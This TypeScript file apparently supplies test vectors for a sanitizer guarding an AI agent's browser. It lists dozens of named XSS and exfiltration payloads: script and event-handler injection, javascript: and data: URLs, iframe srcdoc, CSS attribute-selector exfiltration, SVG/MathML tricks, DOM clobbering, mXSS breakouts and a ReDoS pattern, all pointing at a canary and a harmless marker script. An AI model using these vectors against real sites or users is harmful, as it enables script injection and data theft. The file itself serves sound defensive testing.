// What a hostile site would put into a page to run, fetch or navigate in the agent's browser.
import type { Sketch } from './stream.ts';

const SVG = 1;
const MATHML = 2;

/** Each vector by name; `e` is an address of the canary, `x` a script that would be noticed. */
export function vectors(e: (name: string) => string): [string, Sketch][] {
  const x = 'parent.__ran=1;window.__ran=1;top.__ran=1;alert(1)';
  const css = (name: string, text: string): [string, Sketch] => [
    name,
    { name: 'style', id: (owner) => [{ op: 'sheet', owner, media: '', css: text }] },
  ];
  const element = (
    name: string,
    tag: string,
    attributes: Record<string, string>,
    children: (Sketch | string)[] = [],
    namespace = 0,
  ): [string, Sketch] => [name, { name: tag, attributes, children, namespace: namespace as 0 }];
  return [
    element('script text', 'script', {}, [x]),
    element('script src', 'script', { src: e('script.js') }),
    element('script module', 'script', { type: 'module', src: e('module.js') }),
    element('svg script', 'script', { href: e('svg.js') }, [x], SVG),
    element(
      'svg script in svg',
      'svg',
      {},
      [{ name: 'script', namespace: SVG, children: [x] }],
      SVG,
    ),
    element('upper case script', 'SCRIPT', {}, [x]),
    element('onerror', 'img', { src: e('img.png'), onerror: x }),
    element('onload body', 'body', { onload: x, background: e('bg.png') }),
    element('ontoggle', 'details', { open: '', ontoggle: x }),
    element('onfocus autofocus', 'input', { onfocus: x, autofocus: '' }),
    element('onanimationstart', 'div', { style: 'animation:a 1s', onanimationstart: x }),
    element('onclick upper case', 'div', { ONCLICK: x, 'onclick ': x }),
    element('javascript link', 'a', { href: 'java\tscript:' + x }, ['link']),
    element(
      'data link',
      'a',
      { href: 'data:text/html,<script>' + x + '</script>', target: '_top' },
      ['link'],
    ),
    element('ping', 'a', { href: e('link'), ping: e('ping'), target: '_blank' }, ['link']),
    element('iframe src', 'iframe', { src: e('frame.html') }),
    element('iframe srcdoc', 'iframe', { srcdoc: `<script>${x}</script>` }),
    element('iframe javascript', 'iframe', { src: 'javascript:' + x }),
    element('iframe rights', 'iframe', {
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
      allow: '*',
      csp: '',
      srcdoc: `<script>${x}</script>`,
    }),
    element('frame', 'frame', { src: e('frame2.html') }),
    element('frameset', 'frameset', { onload: x }, [
      { name: 'frame', attributes: { src: e('frame3.html') } },
    ]),
    element('object', 'object', { data: e('object.html'), type: 'text/html' }),
    element('embed', 'embed', { src: e('embed.html'), type: 'text/html' }),
    element('applet', 'applet', { code: e('applet') }),
    element('portal', 'portal', { src: e('portal') }),
    element('fenced frame', 'fencedframe', { src: e('fenced') }),
    element('meta refresh', 'meta', { 'http-equiv': 'refresh', content: `0;url=${e('refresh')}` }),
    element('meta policy', 'meta', {
      'http-equiv': 'Content-Security-Policy',
      content: "script-src 'unsafe-inline'",
    }),
    element('base', 'base', { href: e('base/') }),
    element('link stylesheet', 'link', { rel: 'stylesheet', href: e('sheet.css') }),
    element('link preload', 'link', { rel: 'preload', as: 'image', href: e('preload.png') }),
    element('link prefetch', 'link', {
      rel: 'prefetch dns-prefetch preconnect',
      href: e('prefetch'),
    }),
    element('link import', 'link', { rel: 'import modulepreload', href: e('import') }),
    element('link icon', 'link', { rel: 'icon manifest', href: e('icon.png') }),
    element('form', 'form', { action: e('form'), method: 'post', onsubmit: x }, [
      {
        name: 'button',
        attributes: { formaction: 'javascript:' + x, type: 'submit' },
        children: ['go'],
      },
      { name: 'input', attributes: { id: 'setAttribute', name: 'setAttribute' } },
      { name: 'input', attributes: { id: 'insertBefore', name: 'parentNode' } },
      { name: 'input', attributes: { id: 'style', name: 'nodeType' } },
    ]),
    element('input image', 'input', {
      type: 'image',
      src: e('input.png'),
      formaction: e('formaction'),
    }),
    element('img srcset', 'img', { srcset: `${e('set.png')} 1x`, sizes: '1px', loading: 'eager' }),
    element('picture', 'picture', {}, [
      { name: 'source', attributes: { srcset: e('source.png') } },
      { name: 'img' },
    ]),
    element('video', 'video', { src: e('video.mp4'), poster: e('poster.png'), autoplay: '' }, [
      { name: 'track', attributes: { src: e('track.vtt'), default: '' } },
    ]),
    element('audio', 'audio', { src: e('audio.mp3'), autoplay: '', preload: 'auto' }, [
      { name: 'source', attributes: { src: e('audio.ogg') } },
    ]),
    element('background attribute', 'table', { background: e('table.png') }, [
      { name: 'tr', children: [{ name: 'td', attributes: { background: e('cell.png') } }] },
    ]),
    element('style url', 'div', { style: `background:url(${e('style.png')})` }, ['.']),
    element(
      'style escapes',
      'div',
      { style: `background:\\75 rl(${e('escape.png')});background:u\\72l("${e('escape2.png')}")` },
      ['.'],
    ),
    element(
      'style image-set',
      'div',
      {
        style: `--u:"${e('var.png')}";background:image-set("${e('set2.png')}" 1x);background:image-set(var(--u) 1x)`,
      },
      ['.'],
    ),
    element(
      'style list cursor',
      'li',
      { style: `list-style:url(${e('list.png')});cursor:url(${e('cursor.cur')}),auto` },
      ['.'],
    ),
    element(
      'style mask filter',
      'div',
      {
        style: `mask:url(${e('mask.svg')}#m);filter:url(${e('filter.svg')}#f);clip-path:url(${e('clip.svg')}#c)`,
      },
      ['.'],
    ),
    element(
      'style binding',
      'div',
      { style: `-moz-binding:url(${e('binding.xml')}#a);behavior:url(${e('htc.htc')})` },
      ['.'],
    ),
    element(
      'style content',
      'div',
      { style: `content:url(${e('content.png')});border-image:url(${e('border.png')}) 1` },
      ['.'],
    ),
    css(
      'css import',
      `@import url(${e('import.css')});@import "${e('import2.css')}";@\\69mport '${e('import3.css')}';`,
    ),
    css(
      'css font',
      `@font-face{font-family:evil;src:url(${e('font.woff2')})}body{font-family:evil}`,
    ),
    css(
      'css background',
      `body{background:url(${e('body.png')})}html::before{content:url(${e('before.png')})}`,
    ),
    css(
      'css attribute exfiltration',
      `input[value^="a"]{background:url(${e('guess.png')})}*{background:src("${e('src.png')}")}`,
    ),
    css(
      'css property',
      `@property --p{syntax:"<url>";inherits:true;initial-value:url(${e('property')})}div{background:var(--p)}`,
    ),
    css('css end of style', `</style><script>${x}</script><img src=${e('mxss.png')}>`),
    css('css namespace', `@namespace url(${e('namespace')});@charset "${e('charset')}";`),
    element('style text', 'style', {}, [`body{background:url(${e('text.png')})}`]),
    element(
      'svg use',
      'svg',
      {},
      [
        {
          name: 'use',
          namespace: SVG,
          attributes: { href: e('use.svg#a'), 'xlink:href': e('xlink.svg#a') },
        },
      ],
      SVG,
    ),
    element(
      'svg use data',
      'svg',
      {},
      [
        {
          name: 'use',
          namespace: SVG,
          attributes: { href: `data:image/svg+xml,<svg id='a' onload='${x}'/>#a` },
        },
      ],
      SVG,
    ),
    element(
      'svg image',
      'svg',
      {},
      [
        {
          name: 'image',
          namespace: SVG,
          attributes: { href: e('svgimage.png'), 'xlink:href': e('svgimage2.png') },
        },
      ],
      SVG,
    ),
    element(
      'svg feImage',
      'svg',
      {},
      [
        {
          name: 'filter',
          namespace: SVG,
          children: [{ name: 'feImage', namespace: SVG, attributes: { href: e('fe.png') } }],
        },
      ],
      SVG,
    ),
    element('svg onload', 'svg', { onload: x, onbegin: x }, [], SVG),
    element(
      'svg animate href',
      'svg',
      {},
      [
        {
          name: 'a',
          namespace: SVG,
          children: [
            {
              name: 'animate',
              namespace: SVG,
              attributes: {
                attributeName: 'href',
                values: 'javascript:' + x,
                begin: '0s',
                onbegin: x,
              },
            },
            { name: 'set', namespace: SVG, attributes: { attributeName: 'onmouseover', to: x } },
            { name: 'text', namespace: SVG, children: ['click'] },
          ],
        },
      ],
      SVG,
    ),
    element(
      'svg animate fill',
      'svg',
      {},
      [
        {
          name: 'rect',
          namespace: SVG,
          attributes: { fill: `url(${e('fill.svg')}#a)` },
          children: [
            {
              name: 'animate',
              namespace: SVG,
              attributes: { attributeName: 'fill', values: `url(${e('animate.svg')}#a)` },
            },
          ],
        },
      ],
      SVG,
    ),
    element(
      'svg foreignObject',
      'svg',
      {},
      [
        {
          name: 'foreignObject',
          namespace: SVG,
          children: [
            {
              name: 'iframe',
              attributes: { srcdoc: `<script>${x}</script>`, src: e('foreign.html') },
            },
            { name: 'script', children: [x] },
          ],
        },
      ],
      SVG,
    ),
    element(
      'svg style',
      'svg',
      {},
      [{ name: 'style', namespace: SVG, children: [`*{background:url(${e('svgstyle.png')})}`] }],
      SVG,
    ),
    element('svg handler', 'handler', { type: 'text/javascript', 'ev:event': 'load' }, [x], SVG),
    element(
      'mathml',
      'math',
      { href: 'javascript:' + x, 'xlink:href': 'javascript:' + x },
      [
        {
          name: 'maction',
          namespace: MATHML,
          attributes: { actiontype: 'statusline', href: 'javascript:' + x },
          children: ['x'],
        },
      ],
      MATHML,
    ),
    element(
      'mathml mglyph',
      'math',
      {},
      [
        { name: 'mglyph', namespace: MATHML, attributes: { src: e('glyph.png') } },
        {
          name: 'annotation-xml',
          namespace: MATHML,
          attributes: { encoding: 'text/html' },
          children: [{ name: 'script', children: [x] }],
        },
      ],
      MATHML,
    ),
    element('template', 'template', { shadowrootmode: 'open' }, [
      { name: 'script', children: [x] },
      { name: 'img', attributes: { src: e('template.png'), onerror: x } },
    ]),
    element('noscript', 'noscript', {}, [
      `<p title="</noscript><img src=${e('noscript.png')} onerror=${x}>">`,
    ]),
    element('isindex', 'isindex', { action: 'javascript:' + x, prompt: 'x' }),
    element(
      'is',
      'button',
      { is: 'evil-button', commandfor: 'm', command: 'show-modal', popovertarget: 'm' },
      ['x'],
    ),
    element('custom element', 'evil-element', { onclick: x, src: e('custom') }),
    element('name of a dangerous element', 'x-y><script', {}, [x]),
    element('area', 'map', { name: 'm' }, [
      { name: 'area', attributes: { href: 'javascript:' + x, ping: e('area') } },
    ]),
    element('regular expression without end', 'input', {
      pattern: '(a+)+$',
      value: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
      required: '',
    }),
    element('nonce and clobbering', 'img', {
      nonce: 'x',
      name: 'createElementNS',
      id: 'documentElement',
    }),
    element('marquee', 'marquee', { onstart: x }, ['m']),
  ];
}
